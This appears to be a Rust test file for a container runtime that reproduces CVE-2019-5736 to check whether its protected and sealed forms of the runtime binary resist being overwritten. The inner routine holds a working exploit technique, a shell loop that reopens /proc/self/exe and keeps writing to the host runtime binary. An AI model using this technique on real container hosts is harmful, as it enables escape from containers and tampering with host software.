//! CVE-2019-5736: the container executes /proc/self/exe, which is the program
//! that made it, keeps it open, and writes to it when nobody runs it any more.

use std::fs;
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use rbox_runtime::process::self_exe;
use rbox_runtime::{ExecRequest, Stdio, exec};

use super::raw::{call, text};
use crate::support::{ARGUMENTS, Trial, set_attack};

fn variable(name: &str) -> String {
    std::env::var(name).unwrap()
}

/// Outside: makes a container and ends, as `run --detach` does.
pub fn start_a_container() {
    match variable("RBOX_TEST_FORM").as_str() {
        "as it is" => start(),
        _ if self_exe::is_protected() => start(),
        "read-only" => again(self_exe::protected().unwrap()),
        "sealed" => again(self_exe::sealed().unwrap()),
        form => panic!("{form}"),
    }
}

/// The same in the protected form of this program.
fn again(program: std::os::fd::OwnedFd) {
    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
    let status = Command::new(path).args(ARGUMENTS).status().unwrap();
    assert!(status.success());
}

fn start() {
    let image = PathBuf::from(variable("RBOX_TEST_IMAGE"));
    let volume = PathBuf::from(variable("RBOX_TEST_VOLUME"));
    let way = variable("RBOX_TEST_WAY");
    let program = if way.contains("script") {
        "/script"
    } else {
        "/proc/self/exe"
    };
    let mut attack = Trial::new(&image, &[]);
    set_attack(&mut attack, "overwrite what started us", program);
    let mut trial = Trial::new(&image, &["sleep", "100"]);
    if !way.starts_with("exec") {
        trial.spec.set_process(attack.spec.process().clone());
    }
    write_script(&trial.layer());
    trial.bind(&volume, "/volume", &[]);
    trial.dies_with_parent = false;
    let running = trial.create(nowhere()).unwrap().start().unwrap();
    if way.starts_with("exec") {
        let process = attack.spec.process().as_ref().unwrap();
        let request = ExecRequest::new(running.pid, &running.cgroup, process, nowhere());
        exec(request).unwrap();
    }
    let directory = trial.directory.keep();
    let started = format!("{}\n{}", running.cgroup.path(), directory.display());
    fs::write(volume.join("started"), started).unwrap();
}

fn nowhere() -> Stdio {
    let null = || {
        let file = fs::File::options().read(true).write(true).open("/dev/null");
        file.unwrap().into()
    };
    Stdio::Fds {
        stdin: null(),
        stdout: null(),
        stderr: null(),
    }
}

fn write_script(layer: &Path) {
    let script = layer.join("script");
    fs::write(&script, "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
}

/// Inside: keeps the program open, and becomes a shell that waits for it to be
/// at rest.
pub fn overwrite_what_started_us() {
    let path = text(c"/proc/self/exe");
    let here = libc::AT_FDCWD as usize;
    let kept = call(libc::SYS_openat, &[here, path, libc::O_PATH as usize]).unwrap();
    let script = format!(
        "while :; do \
           error=$( (echo evil >> /proc/self/fd/{kept}) 2>&1) && error=overwritten; \
           case \"$error\" in *busy*) ;; *) break;; esac; \
         done; echo \"$error\" > /volume/writing; mv /volume/writing /volume/result; sleep 100"
    );
    let error = Command::new("/bin/sh").args(["-c", &script]).exec();
    panic!("{error}");
}
